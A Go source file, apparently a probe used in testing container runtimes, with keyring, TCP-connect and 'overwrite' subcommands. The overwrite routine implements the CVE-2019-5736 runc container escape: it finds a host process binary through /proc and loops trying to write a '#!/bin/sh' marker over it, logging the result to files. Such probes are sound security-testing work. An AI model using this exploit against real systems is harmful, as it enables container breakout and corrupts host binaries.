package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// tool does one thing and says how it went.
func tool(name string, args []string) {
	switch name {
	case "keyring":
		// The serial number of the session keyring, and who may see it.
		id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
		fmt.Println(id, err)
	case "overwrite":
		overwrite(args[0])
	case "connect":
		for _, address := range args {
			conn, err := net.DialTimeout("tcp", address, 2*time.Second)
			if err == nil {
				conn.Close()
			}
			fmt.Println(address, err == nil)
		}
	default:
		fmt.Fprintln(os.Stderr, "unknown tool", name)
		os.Exit(2)
	}
}

// overwrite waits for a process here that runs another file than we do, and
// tries to write to that file by way of /proc (CVE-2019-5736), until a file
// named stop exists. It says so to a file named seen, and a success to one
// named written.
func overwrite(dir string) {
	var own unix.Stat_t
	_ = unix.Stat("/proc/self/exe", &own)
	for {
		if _, err := os.Stat(filepath.Join(dir, "stop")); err == nil {
			return
		}
		links, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, link := range links {
			fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st, sh unix.Stat_t
			_ = unix.Fstat(fd, &st)
			_ = unix.Stat("/bin/busybox", &sh)
			if st.Ino == own.Ino && st.Dev == own.Dev || st.Ino == sh.Ino && st.Dev == sh.Dev {
				unix.Close(fd)
				continue
			}
			target, _ := os.Readlink(link)
			_ = os.WriteFile(filepath.Join(dir, "seen"), []byte(target), 0o644)
			// Busy as long as it runs: for a second, again and again.
			for end := time.Now().Add(time.Second); time.Now().Before(end); {
				w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY, 0)
				if err == nil {
					_, err = unix.Write(w, []byte("#!/bin/sh"))
					_ = os.WriteFile(filepath.Join(dir, "written"), []byte(fmt.Sprint(target, err)), 0o644)
					return
				}
				if err == unix.EROFS {
					break
				}
			}
			unix.Close(fd)
		}
	}
}
